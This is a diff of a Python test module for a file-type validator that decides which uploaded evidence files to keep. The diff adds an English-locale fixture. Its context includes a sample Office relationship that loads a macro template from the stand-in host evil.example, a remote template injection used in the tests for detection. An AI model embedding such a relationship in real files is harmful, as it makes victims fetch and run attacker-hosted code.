@@ -1,8 +1,10 @@
 """Which files may be kept as evidence: told by what they hold, never by what they are called."""
 
 import zlib
+from collections.abc import Iterator
 
 import pytest
+from django.utils import translation
 
 from assessments import file_types
 from assessments.exceptions import InvalidInput
@@ -12,6 +14,13 @@ from tests.support import files
 REMOTE_TEMPLATE = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
 <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
  Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>"""
+
+
+@pytest.fixture(autouse=True)
+def _english() -> Iterator[None]:
+    """Messages are read in English here."""
+    with translation.override("en"):
+        yield
 
 
 def pdf_with(part: bytes) -> bytes:
